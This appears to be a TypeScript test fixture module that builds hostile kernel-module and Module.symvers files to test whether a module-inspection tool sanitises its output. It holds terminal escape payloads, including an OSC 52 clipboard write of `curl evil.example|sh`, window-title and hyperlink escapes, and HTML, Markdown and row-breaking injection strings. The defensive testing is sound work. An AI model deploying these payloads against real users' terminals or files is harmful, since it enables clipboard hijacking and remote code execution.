import {readFileSync} from 'node:fs';
import path from 'node:path';
import {readGzipText, replaceOnce, writeTemporary} from './derive.js';
import {fixture} from './paths.js';

/*
Hostile names, edited into real files: my_drv.ko with the same lengths (every offset stays
valid), and the 6.1.0-47 Module.symvers with names, a module column and a namespace changed.
*/

/** OSC 0: sets the window title. */
export const titleName = '\u001B]0;T\u0007';
/** OSC 52 puts `curl evil.example|sh\n` on the clipboard; then clear screen, CR LF, 8-bit CSI (C2 9B), a right-to-left override. */
export const hostileVermagic = '\u001B]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK\u0007\u001B[2J\r\n\u009B\u202Eabc';
/** OSC 52 again, then CR LF, in a `__versions` and symbol-table name. */
export const clipboardSymbol = '\u001B]52;c;ZXZpbAo=\u0007\r\nabcd';
export const htmlSymbol = '<img src=x>|a';
export const rowBreakingSymbol = '\n# Injected\n|x`';
export const linkSymbol = '[a](js:x)ab';

/** Every occurrence of `from` (latin1) replaced by `to` of the same length. */
function replaceEvery(data: Buffer, from: string, to: string): Buffer {
	let out: Buffer = data;
	while (out.includes(from, 0, 'latin1')) {
		out = replaceOnce(out, from, to);
	}

	return out;
}

/** Latin-1 bytes of a string whose characters are all below U+0100 (U+009B as the byte 9B), as the ELF holds them. */
function latin1(text: string): string {
	// U+202E does not fit in latin1: it goes in as its UTF-8 bytes, which decode back to it.
	return Buffer.from(text, 'utf8').toString('latin1');
}

/** my_drv.ko with an OSC 0 module name, an OSC 52 vermagic and four hostile imported symbol names. */
export function hostileModule(directory: string, name = 'hostile.ko'): string {
	let data: Buffer = readFileSync(fixture('modules', 'my_drv-6.1.0-47-amd64.ko'));
	data = replaceOnce(data, 'name=my_drv', `name=${titleName}`);
	data = replaceOnce(data, 'vermagic=6.1.0-47-amd64 SMP preempt mod_unload modversions ', `vermagic=${latin1(hostileVermagic)}`);
	data = replaceEvery(data, 'kthread_create_on_node', clipboardSymbol);
	data = replaceEvery(data, 'misc_register', htmlSymbol);
	data = replaceEvery(data, 'misc_deregister', rowBreakingSymbol);
	data = replaceEvery(data, 'noop_llseek', linkSymbol);
	return writeTemporary(directory, name, data);
}

export const symversSymbol = 'kthread_stop\u001B[2J\u009B';
export const symversModule = '\u001B]0;S\u0007drivers/char/<b>misc';
export const symversNamespace = '\u001B]8;;http://x\u0007NS';

/**
The 6.1.0-47 Module.symvers (read as latin1, like kmodx) with kthread_stop renamed (ESC, the byte 9B: CSI), misc_register's module
column an OSC 0 and HTML, wake_up_process the same module column and a namespace that is an
OSC 8 hyperlink.
*/
export function hostileSymvers(directory: string): string {
	const text = readGzipText(fixture('kernels', '6.1.0-47-amd64', 'Module.symvers.gz'))
		.replace(/\tkthread_stop\tvmlinux\t/, `\t${symversSymbol}\tvmlinux\t`)
		.replace(/\tmisc_register\tvmlinux\t/, `\tmisc_register\t${symversModule}\t`)
		.replace(/\twake_up_process\tvmlinux\tEXPORT_SYMBOL\t/, `\twake_up_process\t${symversModule}\tEXPORT_SYMBOL\t${symversNamespace}`);
	return writeTemporary(path.join(directory, 'hostile-47'), 'Module.symvers', Buffer.from(text, 'latin1'));
}
